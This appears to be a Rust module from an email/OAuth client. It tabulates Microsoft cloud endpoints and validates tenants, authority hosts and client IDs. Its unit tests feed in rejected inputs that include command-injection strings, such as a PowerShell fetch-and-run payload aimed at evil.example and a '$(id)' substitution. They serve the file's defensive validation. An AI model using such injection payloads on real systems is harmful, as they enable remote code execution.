//! Who is asked for tokens: the cloud, the authority's host, the tenant, and their endpoints.
//!
//! Facts as data, a cloud a row. Speaks no HTTP.

use std::fmt;
use std::str::FromStr;

use serde::{Deserialize, Serialize};
use url::{Host, Url};

use crate::error::{Error, Expected, Result};
use crate::foreign::is_visible;
use crate::locales::{Message, fl};
use crate::names;
use crate::scope::Scope;

/// Microsoft's clouds ("National clouds", Microsoft identity platform).
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub(crate) enum Cloud {
    /// The public cloud, GCC included.
    #[default]
    Global,
    /// US Government, GCC High.
    #[serde(rename = "usgov")]
    UsGov,
    /// US Government, Department of Defense.
    #[serde(rename = "usgov-dod")]
    UsGovDod,
    /// China, operated by 21Vianet.
    China,
}

/// What differs from cloud to cloud.
struct CloudRow {
    cloud: Cloud,
    name: &'static str,
    authority_host: &'static str,
    smtp_send: Fact,
    app_only: Fact,
    smtp_host: Fact,
    imap_host: Fact,
    /// Where else Outlook's mail is sent from.
    other_hosts: &'static [&'static str],
    graph_host: &'static str,
}

/// A value of the table, and whether Microsoft documents it or tools in use agree on it.
enum Fact {
    Sure(&'static str),
    /// Sources disagree, or there is but one; the flag at hand overrides it.
    Unsure(&'static str),
}

impl Fact {
    fn value(&self) -> &'static str {
        match self {
            Self::Sure(value) | Self::Unsure(value) => value,
        }
    }

    fn is_sure(&self) -> bool {
        matches!(self, Self::Sure(_))
    }

    fn scope(&self) -> Scope {
        let scope = Scope::try_from(self.value().to_owned());
        scope.unwrap_or_else(|_| unreachable!("the table of clouds holds scopes"))
    }
}

impl CloudRow {
    fn has_mail_host(&self, host: &str) -> bool {
        let hosts = [self.smtp_host.value(), self.imap_host.value()];
        hosts.contains(&host) || self.other_hosts.contains(&host)
    }
}

/// Where personal mailboxes send from.
const PERSONAL_SMTP_HOST: &str = "smtp-mail.outlook.com";

/// The rows of the clouds. For the DoD cloud, tools in use disagree; the app-only scope of China
/// is concluded from the delegated one, and so are the hosts for IMAP but that of the global cloud.
const CLOUDS: [CloudRow; 4] = [
    CloudRow {
        cloud: Cloud::Global,
        name: "global",
        authority_host: "https://login.microsoftonline.com",
        smtp_send: Fact::Sure("https://outlook.office.com/SMTP.Send"),
        app_only: Fact::Sure("https://outlook.office365.com/.default"),
        smtp_host: Fact::Sure("smtp.office365.com"),
        imap_host: Fact::Sure("outlook.office365.com"),
        other_hosts: &[
            PERSONAL_SMTP_HOST,
            "smtp-legacy.office365.com",
            "smtp-hve.office365.com",
        ],
        graph_host: "https://graph.microsoft.com",
    },
    CloudRow {
        cloud: Cloud::UsGov,
        name: "usgov",
        authority_host: "https://login.microsoftonline.us",
        smtp_send: Fact::Sure("https://outlook.office365.us/SMTP.Send"),
        app_only: Fact::Sure("https://outlook.office365.us/.default"),
        smtp_host: Fact::Sure("smtp.office365.us"),
        imap_host: Fact::Unsure("outlook.office365.us"),
        other_hosts: &[],
        graph_host: "https://graph.microsoft.us",
    },
    CloudRow {
        cloud: Cloud::UsGovDod,
        name: "usgov-dod",
        authority_host: "https://login.microsoftonline.us",
        smtp_send: Fact::Unsure("https://outlook.office365.us/SMTP.Send"),
        app_only: Fact::Unsure("https://outlook.office365.us/.default"),
        smtp_host: Fact::Unsure("outlook-dod.office365.us"),
        imap_host: Fact::Unsure("outlook-dod.office365.us"),
        other_hosts: &[],
        graph_host: "https://dod-graph.microsoft.us",
    },
    CloudRow {
        cloud: Cloud::China,
        name: "china",
        authority_host: "https://login.partner.microsoftonline.cn",
        smtp_send: Fact::Sure("https://partner.outlook.cn/SMTP.Send"),
        app_only: Fact::Unsure("https://partner.outlook.cn/.default"),
        smtp_host: Fact::Sure("smtp.partner.outlook.cn"),
        imap_host: Fact::Unsure("partner.outlook.cn"),
        other_hosts: &[],
        graph_host: "https://microsoftgraph.chinacloudapi.cn",
    },
];

impl Cloud {
    fn row(self) -> &'static CloudRow {
        &CLOUDS[self as usize]
    }

    /// The name that `--cloud` takes.
    #[must_use]
    pub(crate) fn as_str(self) -> &'static str {
        self.row().name
    }

    /// The authority's host of this cloud.
    #[must_use]
    pub(crate) fn authority_host(self) -> AuthorityHost {
        AuthorityHost(self.row().authority_host.to_owned())
    }

    /// Where Microsoft Graph is in this cloud ("Microsoft Graph national cloud deployments").
    #[must_use]
    pub(crate) fn graph_host(self) -> AuthorityHost {
        AuthorityHost(self.row().graph_host.to_owned())
    }

    /// The delegated scope that SMTP AUTH wants in this cloud.
    #[must_use]
    pub(crate) fn smtp_send(self) -> Scope {
        self.row().smtp_send.scope()
    }

    /// The scope that an app asks for in its own name in this cloud.
    #[must_use]
    pub(crate) fn app_only(self) -> Scope {
        self.row().app_only.scope()
    }

    /// True where Microsoft documents the scope, or tools in use agree on it.
    #[must_use]
    pub(crate) fn is_sure_of(self, scope: &Scope) -> bool {
        let row = self.row();
        [&row.smtp_send, &row.app_only]
            .iter()
            .all(|fact| fact.is_sure() || fact.value() != scope.as_str())
    }

    /// Where mail is read in this cloud, port 993 with TLS; and whether that is sure.
    #[must_use]
    pub(crate) fn imap_host(self) -> (&'static str, bool) {
        let fact = &self.row().imap_host;
        (fact.value(), fact.is_sure())
    }

    /// Where mail is submitted in this cloud, port 587 with STARTTLS; and whether that is sure.
    #[must_use]
    pub(crate) fn smtp_host(self, tenant: &Tenant) -> (&'static str, bool) {
        // Personal mailboxes have a name of their own, for the same servers.
        if self == Self::Global && tenant.is_consumers() {
            return (PERSONAL_SMTP_HOST, true);
        }
        let fact = &self.row().smtp_host;
        (fact.value(), fact.is_sure())
    }

    /// True for a host of Outlook's in this cloud, for SMTP or IMAP.
    #[must_use]
    pub(crate) fn has_mail_host(self, host: &str) -> bool {
        self.row().has_mail_host(host)
    }

    /// True for a host of Outlook's in any cloud.
    #[must_use]
    pub(crate) fn is_mail_host(host: &str) -> bool {
        CLOUDS.iter().any(|row| row.has_mail_host(host))
    }
}

impl FromStr for Cloud {
    type Err = Expected;

    fn from_str(text: &str) -> Result<Self, Self::Err> {
        let row = CLOUDS.iter().find(|row| row.name == text);
        row.map(|row| row.cloud)
            .ok_or_else(|| Expected::one_of(CLOUDS.map(|row| row.name)))
    }
}

/// The tenants that stand for many ("Endpoints", OpenID Connect on the Microsoft identity platform).
const ALIASES: [&str; 3] = ["common", "organizations", CONSUMERS];
const CONSUMERS: &str = "consumers";
/// The tenant of all personal accounts: `consumers` as a GUID.
const PERSONAL_ACCOUNTS: &str = "9188040d-6c67-4c5b-b112-36a304b66dad";

/// The first segment of every endpoint's path: who may sign in ("Endpoints", OpenID Connect on
/// the Microsoft identity platform).
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(try_from = "String", into = "String")]
pub struct Tenant(String);

impl Tenant {
    /// The segment as it is sent.
    #[must_use]
    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// True where it names one organization: only there can an app ask in its own name.
    #[must_use]
    pub fn is_one_organization(&self) -> bool {
        !ALIASES.contains(&self.as_str()) && self.0 != PERSONAL_ACCOUNTS
    }

    /// Personal accounts only.
    #[must_use]
    pub fn consumers() -> Self {
        Self(CONSUMERS.to_owned())
    }

    /// True for the tenant of all personal accounts.
    #[must_use]
    pub fn is_consumers(&self) -> bool {
        self.0 == CONSUMERS || self.0 == PERSONAL_ACCOUNTS
    }
}

impl Default for Tenant {
    fn default() -> Self {
        Self("common".to_owned())
    }
}

impl FromStr for Tenant {
    type Err = Expected;

    fn from_str(text: &str) -> Result<Self, Self::Err> {
        let tenant = text.trim().to_ascii_lowercase();
        let is_alias = ALIASES.contains(&tenant.as_str());
        if is_alias || is_guid(&tenant) {
            return Ok(Self(tenant));
        }
        if let Some(Host::Domain(domain)) = names::host(&tenant)
            && domain.contains('.')
            && !domain.ends_with('.')
        {
            return Ok(Self(domain));
        }
        let expected = fl!("authority-expected-tenant");
        Err(Expected::or_named(expected, ALIASES))
    }
}

crate::names::read_from_string!(Tenant);

impl From<Tenant> for String {
    fn from(tenant: Tenant) -> Self {
        tenant.0
    }
}

impl fmt::Display for Tenant {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        formatter.write_str(&self.0)
    }
}

/// The scheme, host and port of an authority: https, or http on loopback.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(try_from = "String", into = "String")]
pub struct AuthorityHost(String);

impl AuthorityHost {
    /// The scheme, host and port as they are written.
    #[must_use]
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

/// Hosts of Microsoft's under which authorities answered before those of [`CLOUDS`], and still do
/// (the hosts that MSAL knows without asking).
const OLDER_HOSTS: [&str; 6] = [
    "https://login.windows.net",
    "https://login.microsoft.com",
    "https://sts.windows.net",
    "https://login.chinacloudapi.cn",
    "https://login-us.microsoftonline.com",
    "https://login.usgovcloudapi.net",
];

impl AuthorityHost {
    /// True for a host of Microsoft's in any cloud. What is sent to another one reaches whoever runs
    /// it.
    #[must_use]
    pub fn is_microsofts(&self) -> bool {
        let of_clouds = CLOUDS.iter().map(|row| row.authority_host);
        of_clouds.chain(OLDER_HOSTS).any(|host| host == self.0)
    }
}

impl FromStr for AuthorityHost {
    type Err = Expected;

    fn from_str(text: &str) -> Result<Self, Self::Err> {
        let with_scheme = if text.contains("://") {
            text.to_owned()
        } else {
            format!("https://{text}")
        };
        // A URL is read without the line breaks in it.
        let url = Url::parse(&with_scheme).ok().filter(|_| is_visible(text));
        let url = url.ok_or_else(|| Expected::new(expected_https()))?;
        let is_good = |host| names::is_host(&host) && names::is_as_written(&host, text);
        if !url.host().is_some_and(is_good) {
            return Err(Expected::new(expected_host()));
        }
        let bare = url.path() == "/" && url.query().is_none() && url.fragment().is_none();
        if !bare || !url.username().is_empty() || url.password().is_some() {
            return Err(Expected::new(fl!("authority-expected-host-only")));
        }
        match url.scheme() {
            _ if is_private(&url) => {}
            "http" => {
                return Err(Expected::new(fl!("authority-http-loopback-only")));
            }
            _ => return Err(Expected::new(expected_https())),
        }
        Ok(Self(url.as_str().trim_end_matches('/').to_owned()))
    }
}

fn expected_host() -> Message {
    fl!("authority-expected-host")
}

fn expected_https() -> Message {
    fl!("authority-expected-https-url")
}

crate::names::read_from_string!(AuthorityHost);

impl From<AuthorityHost> for String {
    fn from(host: AuthorityHost) -> Self {
        host.0
    }
}

/// An authority: a host and a tenant. A code is redeemed at the tenant alias it was issued by
/// (AADSTS700005), so one authority serves both legs of a sign-in.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub(crate) struct Authority {
    /// Scheme, host and port.
    #[serde(rename = "authority_host")]
    pub host: AuthorityHost,
    /// The first segment of the path.
    pub tenant: Tenant,
}

impl Authority {
    /// The authorization endpoint (RFC 6749 §3.1).
    #[must_use]
    pub(crate) fn authorization_endpoint(&self) -> String {
        self.endpoint("authorize")
    }

    /// The token endpoint (RFC 6749 §3.2).
    #[must_use]
    pub(crate) fn token_endpoint(&self) -> String {
        self.endpoint("token")
    }

    /// The device authorization endpoint (RFC 8628 §3.1).
    #[must_use]
    pub(crate) fn device_authorization_endpoint(&self) -> String {
        self.endpoint("devicecode")
    }

    /// The description of all endpoints (OpenID Connect Discovery 1.0 §4; "OpenID Connect on the
    /// Microsoft identity platform").
    #[must_use]
    pub(crate) fn openid_configuration(&self) -> String {
        let (host, tenant) = (&self.host.0, &self.tenant);
        format!("{host}/{tenant}/v2.0/.well-known/openid-configuration")
    }

    /// The host's name, to be named when it cannot be reached.
    #[must_use]
    pub(crate) fn host_name(&self) -> &str {
        self.host
            .0
            .split_once("://")
            .map_or(&self.host.0, |(_, host)| host)
    }

    fn endpoint(&self, name: &str) -> String {
        format!("{}/{}/oauth2/v2.0/{name}", self.host.0, self.tenant)
    }
}

/// True for the address of a page: a host, reached so that nobody reads along.
#[must_use]
pub(crate) fn is_page(url: &Url) -> bool {
    let has_user = !url.username().is_empty() || url.password().is_some();
    is_private(url) && !has_user && url.host().is_some_and(|host| names::is_host(&host))
}

/// True for https, and for http that does not leave this machine.
fn is_private(url: &Url) -> bool {
    url.scheme() == "https" || url.scheme() == "http" && is_loopback(url)
}

/// True for `localhost` and the addresses of the loopback interface.
#[must_use]
pub(crate) fn is_loopback(url: &Url) -> bool {
    match url.host() {
        Some(Host::Domain(name)) => name == "localhost",
        Some(Host::Ipv4(address)) => address.is_loopback(),
        Some(Host::Ipv6(address)) => address.is_loopback(),
        None => false,
    }
}

/// True for the textual form of a GUID (RFC 9562 §4).
#[must_use]
pub(crate) fn is_guid(text: &str) -> bool {
    text.len() == 36
        && text
            .bytes()
            .enumerate()
            .all(|(position, byte)| match position {
                8 | 13 | 18 | 23 => byte == b'-',
                _ => byte.is_ascii_hexdigit(),
            })
}

/// The application (client) id of an app registration: a GUID.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(try_from = "String", into = "String")]
pub struct ClientId(String);

impl ClientId {
    /// The id as it is sent.
    #[must_use]
    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// The error of a first sign-in that names no app. `account` is the flag that was given for the
    /// account's name, with a blank before it, or nothing.
    #[must_use]
    pub fn missing(account: &str) -> Error {
        Error::usage(fl!("authority-no-client-id", account))
    }
}

impl FromStr for ClientId {
    type Err = Expected;

    fn from_str(text: &str) -> Result<Self, Self::Err> {
        let id = text.trim();
        if is_guid(id) {
            return Ok(Self(id.to_ascii_lowercase()));
        }
        Err(Expected::new(fl!("authority-expected-client-id")))
    }
}

crate::names::read_from_string!(ClientId);

impl From<ClientId> for String {
    fn from(id: ClientId) -> Self {
        id.0
    }
}

impl fmt::Display for ClientId {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        formatter.write_str(&self.0)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_row_of_a_cloud_is_its_own() {
        for row in &CLOUDS {
            assert_eq!(row.cloud.row().name, row.name);
            assert!(row.authority_host.parse::<AuthorityHost>().is_ok());
            assert!(row.graph_host.parse::<AuthorityHost>().is_ok());
            assert_eq!(row.cloud.smtp_send().as_str(), row.smtp_send.value());
            assert!(row.cloud.app_only().as_str().ends_with("/.default"));
            let (smtp_host, is_sure) = row.cloud.smtp_host(&Tenant::default());
            assert_eq!(
                (smtp_host, is_sure),
                (row.smtp_host.value(), row.smtp_host.is_sure())
            );
            assert_eq!(row.name.parse::<Cloud>(), Ok(row.cloud));
        }
    }

    #[test]
    fn personal_mailboxes_have_an_smtp_host_of_their_own() {
        for (tenant, host) in [
            ("common", "smtp.office365.com"),
            ("contoso.onmicrosoft.com", "smtp.office365.com"),
            ("consumers", "smtp-mail.outlook.com"),
            (PERSONAL_ACCOUNTS, "smtp-mail.outlook.com"),
        ] {
            let tenant = tenant.parse().expect("a tenant");
            assert_eq!(Cloud::Global.smtp_host(&tenant), (host, true));
        }
        assert!(Cloud::Global.is_sure_of(&Cloud::Global.app_only()));
        assert!(!Cloud::China.is_sure_of(&Cloud::China.app_only()));
        assert!(Cloud::China.is_sure_of(&Cloud::China.smtp_send()));
    }

    #[test]
    fn an_app_can_ask_in_one_organization_only() {
        for (tenant, can) in [
            ("common", false),
            ("organizations", false),
            ("consumers", false),
            (PERSONAL_ACCOUNTS, false),
            ("contoso.onmicrosoft.com", true),
            ("6f89cf12-978b-4d23-ac18-9ef0c127cf87", true),
        ] {
            let tenant: Tenant = tenant.parse().expect("a tenant");
            assert_eq!(tenant.is_one_organization(), can, "{tenant}");
        }
    }

    #[test]
    fn a_tenant_is_an_alias_a_guid_or_a_domain() {
        for good in [
            "common",
            "Organizations",
            "consumers",
            "6F89CF12-978b-4d23-ac18-9ef0c127cf87",
            "contoso.onmicrosoft.com",
            "例え.jp",
        ] {
            let tenant = good.parse::<Tenant>().expect("a tenant");
            assert!(tenant.as_str().is_ascii(), "{good}");
            assert_eq!(tenant.as_str().parse(), Ok(tenant.clone()));
        }
        for bad in [
            "",
            "contoso",
            "a/b.com",
            "common/../x.y",
            "a b.com",
            "1.2.3.4",
            "x.y?z",
            "a..b",
            ".b",
            "x';iex(irm('evil.example'));'.y",
            "$(id).example",
            "a&b.example",
            "a!b.example",
            "{a}.example",
            "-a.example",
        ] {
            assert!(bad.parse::<Tenant>().is_err(), "{bad}");
        }
    }

    #[test]
    fn an_authority_host_is_https_or_loopback() {
        for (text, host) in [
            (
                "https://login.microsoftonline.com/",
                "https://login.microsoftonline.com",
            ),
            (
                "login.microsoftonline.us",
                "https://login.microsoftonline.us",
            ),
            ("http://localhost:8080", "http://localhost:8080"),
            ("http://127.0.0.1:1", "http://127.0.0.1:1"),
            ("https://[::1]:9/", "https://[::1]:9"),
        ] {
            assert_eq!(
                text.parse::<AuthorityHost>().map(String::from).as_deref(),
                Ok(host)
            );
        }
        for bad in [
            "http://login.microsoftonline.com",
            "https://login.microsoftonline.com/common",
            "https://user:pw@login.microsoftonline.com",
            "ftp://localhost",
            "",
            "https://x';iex(irm('evil.example'));'.y",
            "https://$(id).example",
            "https://a&b.example",
            "https://a\nb.example",
            "https://a\u{200b}b.example",
        ] {
            assert!(bad.parse::<AuthorityHost>().is_err(), "{bad}");
        }
    }

    #[test]
    fn the_endpoints_carry_the_tenant() {
        let authority = Authority {
            host: Cloud::Global.authority_host(),
            tenant: Tenant::default(),
        };
        assert_eq!(
            authority.token_endpoint(),
            "https://login.microsoftonline.com/common/oauth2/v2.0/token"
        );
        assert_eq!(authority.host_name(), "login.microsoftonline.com");
    }

    #[test]
    fn a_client_id_is_a_guid() {
        assert!(
            "00001111-aaaa-2222-bbbb-3333cccc4444"
                .parse::<ClientId>()
                .is_ok()
        );
        for bad in [
            "",
            "app",
            "00001111aaaa2222bbbb3333cccc4444",
            "00001111-aaaa-2222-bbbb-3333cccc444g",
        ] {
            assert!(bad.parse::<ClientId>().is_err(), "{bad}");
        }
    }
}
